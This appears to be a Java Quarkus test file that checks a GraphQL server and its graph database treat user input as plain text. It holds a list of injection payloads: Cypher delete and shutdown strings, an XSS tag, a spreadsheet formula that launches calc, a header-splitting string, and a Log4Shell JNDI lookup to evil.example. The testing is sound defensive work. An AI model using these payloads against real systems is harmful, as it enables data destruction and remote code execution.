package org.chancery.server;

import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasItem;
import static org.hamcrest.Matchers.in;
import static org.hamcrest.Matchers.nullValue;

import io.quarkus.test.junit.QuarkusTest;
import java.util.List;
import java.util.Map;
import org.chancery.testing.Ask;
import org.chancery.testing.Draft;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What means something to the database, its index, a page, a spreadsheet or a header is text here, and nothing else. */
@QuarkusTest
class InjectionTest {

    private static final List<String> OF_WHO_ASKS = List.of("NOT_FOUND", "AMBIGUOUS_NAME", "INVALID_INPUT");

    @ParameterizedTest
    @ValueSource(
            strings = {
                "'}) DETACH DELETE n //",
                "x' OR 1=1 WITH n MATCH (m) SET m.name = 'x' RETURN m //",
                "`}) CALL dbms.shutdown() //",
                "$id",
                "*:*",
                "name:* OR id:*",
                "a~0.1 AND (b OR",
                "\\",
                "/.*/",
                "<script>alert(1)</script>",
                "=cmd|' /C calc'!A0",
                "x\r\nSet-Cookie: a=b",
                "${jndi:ldap://evil.example/a}",
                "%s%n%d"
            })
    void aFilterWithItFindsNothingAndChangesNothing(String payload) {
        int before = Ask.answer("{ overview { people } }", Map.of())
                .at("/data/overview/people")
                .asInt();
        Map<String, Object> values = Map.of("x", payload);
        for (String question : List.of("person(id: $x) { id }", "country(id: $x) { id }", "place(id: $x) { id }")) {
            Ask.query("query ($x: ID!) { found: " + question + " }", values)
                    .body("data.found", nullValue())
                    .body("errors[0].extensions.code", in(OF_WHO_ASKS));
        }
        Ask.query("query ($x: String!) { search(text: $x) { node { id } } }", values)
                .statusCode(200)
                .body("errors.extensions.code.findAll { it == 'INTERNAL' }", nullOrEmpty());
        Ask.query("query ($x: String) { meetings(filter: {text: $x}) { totalCount } }", values)
                .body("errors.extensions.code.findAll { it == 'INTERNAL' }", nullOrEmpty());
        assertThat(Ask.answer("{ overview { people } }", Map.of())
                        .at("/data/overview/people")
                        .asInt())
                .isEqualTo(before);
    }

    @Test
    void aNameWithItIsKeptAsItIs() {
        String name = "Ada '}) DETACH DELETE n // <b>=1+1</b> Injectby";
        Draft draft = new Draft("Injectby told it", "2001-01-02");
        draft.person(name);
        draft.person("Bo Injectby");
        draft.meeting("HELD", "2001-01-01", name, "Bo Injectby");
        draft.load().body("errors", nullValue()).body("data.loadFacts.status", equalTo("DONE"));
        Ask.query("query ($x: ID!) { person(id: $x) { name } }", Map.of("x", name))
                .body("data.person.name", equalTo(name));
        Ask.query("{ search(text: \"Injectby\") { node { ... on Person { name } } } }")
                .body("data.search.node.name", hasItem(name));
    }

    private static org.hamcrest.Matcher<Object> nullOrEmpty() {
        return org.hamcrest.Matchers.anyOf(nullValue(), equalTo(List.of()));
    }
}
